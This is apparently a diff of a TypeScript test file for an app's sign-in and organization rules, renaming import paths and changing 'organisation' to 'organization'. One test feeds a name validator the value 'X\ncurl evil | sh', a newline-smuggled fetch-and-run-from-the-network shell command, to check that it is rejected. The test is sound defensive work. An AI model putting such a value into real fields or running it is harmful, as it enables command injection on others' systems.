@@ -1,22 +1,22 @@
 import { TOTP } from 'otpauth'
 import { describe, expect, test } from 'vitest'
-import * as AuditLog from '../audit-log.ts'
-import * as Organization from '../organization.ts'
-import { permissionsOf } from '../permission.ts'
-import * as ApiKey from './api-key.ts'
-import * as Invitation from './invitation.ts'
-import * as Login from './login.ts'
-import { me } from './me.ts'
-import * as OpenIdSignIn from './open-id.ts'
-import { register } from './register.ts'
-import * as Session from './session.ts'
-import { password, refusal, world } from './testing.ts'
-import * as Totp from './totp.ts'
-import * as User from './user.ts'
+import * as AuditLog from '../guard/audit-log.ts'
+import * as Organization from '../organization/organization.ts'
+import { permissionsOf } from '../kernel/permission.ts'
+import * as ApiKey from './credentials/api-key.ts'
+import * as Invitation from './people/invitation.ts'
+import * as Login from './sign-in/login.ts'
+import { me } from './people/me.ts'
+import * as OpenIdSignIn from './sign-in/open-id.ts'
+import { register } from './sign-in/register.ts'
+import * as Session from './credentials/session.ts'
+import { password, refusal, world } from '../testing/identity.ts'
+import * as Totp from './sign-in/totp.ts'
+import * as User from './people/user.ts'
 
 const provider = { issuer: 'https://idp.example', clientId: 'client', passwords: false }
 
-describe('an organisation that demands a second factor', () => {
+describe('an organization that demands a second factor', () => {
   test('gives nothing but the way to one to who has none, also by an API key, and everything after', async () => {
     const { found, as, anyone, now } = await timed()
     const ada = await found()
@@ -46,7 +46,7 @@ describe('an organisation that demands a second factor', () => {
   }
 })
 
-describe('an organisation that leaves signing in to its provider', () => {
+describe('an organization that leaves signing in to its provider', () => {
   test('takes passwords of admins alone, mails others none, and says no more than that it is wrong', async () => {
     const { found, join, anyone, deliver, runtime } = world()
     const ada = await found()
@@ -69,7 +69,7 @@ describe('an organisation that leaves signing in to its provider', () => {
 })
 
 describe('a session that a password opened', () => {
-  test('ends at its next refresh where the organisation leaves signing in to its provider; of admins it goes on', async () => {
+  test('ends at its next refresh where the organization leaves signing in to its provider; of admins it goes on', async () => {
     const { found, join, anyone, as } = world()
     const ada = await found()
     const bob = await join(ada, 'viewer')
@@ -284,7 +284,7 @@ test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is no name of 
   })
 })
 
-test('who is alone in an organisation may approve their own requests; of two nobody may', async () => {
+test('who is alone in an organization may approve their own requests; of two nobody may', async () => {
   const { found, join } = world()
   const ada = await found()
   const approvalRules = { approvals: 1, allowSelfApproval: true }
